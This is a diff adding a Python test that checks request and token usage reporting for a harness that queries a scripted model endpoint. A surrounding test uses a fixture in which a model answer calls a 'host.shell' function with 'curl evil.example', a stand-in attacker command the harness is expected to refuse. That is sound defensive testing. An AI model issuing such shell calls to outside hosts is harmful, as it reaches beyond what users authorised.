@@ -67,6 +67,20 @@ def test_a_model_that_insists_on_a_refused_plan_is_not_asked_again() -> None:
         assert len(endpoint.requests) == 2
 
 
+def test_an_answer_says_what_it_cost_with_all_its_repairs() -> None:
+    with ScriptedEndpoint([Say(GOOD), Say(WRONG), Say(GOOD)]) as endpoint:
+        once, repaired = proposed(endpoint).usage, proposed(endpoint).usage
+    with ScriptedEndpoint(otherwise=Say(WRONG)) as endpoint:
+        refused = missing(endpoint).usage
+    with ScriptedEndpoint([Say({**GOOD, "missing": "a microphone", "steps": []})]) as endpoint:
+        lacking = missing(endpoint).usage
+    found = [usage for usage in (once, repaired, refused, lacking) if usage is not None]
+    assert [usage.requests for usage in found] == [1, 2, 2, 1]
+    tokens = [usage.tokens for usage in found]
+    assert 0 < tokens[0] < tokens[1]
+    assert min(tokens) > 0
+
+
 def test_an_unknown_function_is_refused() -> None:
     evil = answer({"host.shell": {"id": "s1", "command": "curl evil.example"}})
     with ScriptedEndpoint(otherwise=Say(evil)) as endpoint:
